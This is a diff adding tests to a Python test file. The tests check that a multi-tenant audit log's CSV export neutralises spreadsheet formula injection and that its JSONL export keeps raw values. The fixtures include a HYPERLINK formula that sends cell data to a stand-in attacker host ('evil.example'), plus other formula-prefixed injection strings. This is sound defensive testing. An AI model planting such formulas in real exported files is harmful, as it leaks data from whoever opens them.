@@ -336,6 +336,40 @@ def test_audit_csv_export_streams_the_filtered_rows_with_a_header(client):
     assert exported.detail == {"format": "csv", "filters": {"action": "ticket.created"}}
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
+
+
+def test_audit_csv_export_neutralises_cells_a_spreadsheet_would_run(client):
+    tenant = TenantFactory(slug="acme")
+    event(tenant, "ticket.created", actor_name=FORMULA, tool_name="+cmd", outcome="-1+1")
+    event(tenant, "ticket.created", actor_name="@SUM(A1)", tool_name="\tx", outcome="\ry")
+    client.force_login(member(tenant, Role.AUDITOR))
+
+    rows = list(csv.reader(io.StringIO(streamed(export(client, "csv")))))
+
+    cells = [dict(zip(EXPORT_FIELDS, row, strict=True)) for row in rows[1:3]]
+    assert [(c["actor"], c["tool"], c["outcome"]) for c in cells] == [
+        ("'" + FORMULA, "'+cmd", "'-1+1"),
+        ("'@SUM(A1)", "'\tx", "'\ry"),
+    ]
+    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)
+
+
+def test_audit_jsonl_export_keeps_such_values_exact(client):
+    tenant = TenantFactory(slug="acme")
+    event(tenant, "ticket.created", actor_name=FORMULA, tool_name="+cmd", detail={"a": "=1"})
+    client.force_login(member(tenant, Role.AUDITOR))
+
+    [line] = streamed(export(client, "jsonl", {"action": "ticket.created"})).splitlines()
+
+    exported = json.loads(line)
+    assert (exported["actor"], exported["tool"], exported["detail"]) == (
+        FORMULA,
+        "+cmd",
+        {"a": "=1"},
+    )
+
+
 def test_audit_jsonl_export_streams_one_object_per_line(client):
     tenant = TenantFactory(slug="acme")
     first = event(tenant, "ticket.created")
